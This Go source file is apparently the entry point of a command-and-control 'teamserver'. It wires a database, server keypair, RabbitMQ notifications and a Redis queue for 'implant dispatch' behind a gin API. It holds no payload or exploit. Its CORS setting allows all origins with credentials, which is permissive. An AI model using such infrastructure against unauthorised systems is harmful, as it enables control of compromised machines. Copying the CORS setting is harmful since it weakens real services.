package main

import (
	"log"
	"time"

	"github.com/gin-contrib/cors"
	"github.com/gin-gonic/gin"

	"teamserver/broker"
	"teamserver/config"
	"teamserver/crypto"
	"teamserver/database"
	"teamserver/routes"
)

func main() {
	cfg := config.Load()
	logger := config.NewLogger()

	store, err := database.Connect(cfg.DatabaseDSN)
	if err != nil {
		log.Fatal("Failed to connect to database: ", err)
	}

	keys, err := loadServerKeys(cfg)
	if err != nil {
		log.Fatal("Failed to load server keys: ", err)
	}

	// The broker backends are optional at startup: without them the server
	// still serves the API, it just cannot hand tasks off for delivery.
	var notifier *broker.Notifier
	if notifier, err = broker.NewNotifier(cfg.RabbitURL, cfg.RabbitHost, cfg.RabbitPort); err != nil {
		logger.Warn("rabbitmq unavailable, notifications disabled", "error", err)
		notifier = nil
	}
	var queue *broker.TaskQueue
	if queue, err = broker.NewTaskQueue(cfg.RedisAddr, cfg.RedisPassword, cfg.RedisDB); err != nil {
		logger.Warn("redis unavailable, implant dispatch disabled", "error", err)
		queue = nil
	}
	gateway := broker.NewGateway(notifier, queue, logger)

	r := gin.Default()
	r.Use(cors.New(cors.Config{
		AllowAllOrigins:  true,
		AllowMethods:     []string{"GET", "POST", "PUT", "DELETE", "OPTIONS"},
		AllowHeaders:     []string{"Authorization", "Content-Type", "X-ID", "X-Signature"},
		ExposeHeaders:    []string{"Content-Length"},
		AllowCredentials: true,
		MaxAge:           12 * time.Hour,
	}))

	api := routes.SetupRouter(store, keys, gateway, logger)
	r.Any("/*path", func(c *gin.Context) {
		api.ServeHTTP(c.Writer, c.Request)
	})

	logger.Info("server listening", "addr", cfg.ListenAddr)
	if err := r.Run(cfg.ListenAddr); err != nil {
		log.Fatal("Server exited: ", err)
	}
}

func loadServerKeys(cfg *config.Config) (*crypto.ServerKeyPair, error) {
	if cfg.ServerPublicKey != "" && cfg.ServerPrivateKey != "" {
		return crypto.ParseServerKeyPair(cfg.ServerPublicKey, cfg.ServerPrivateKey)
	}
	keys, err := crypto.GenerateServerKeyPair()
	if err != nil {
		return nil, err
	}
	// A transient keypair means operator proofs sealed to the old public
	// key stop working after a restart; fine for development only.
	log.Println("Generated transient server keypair, public key:", keys.EncodePublic())
	return keys, nil
}
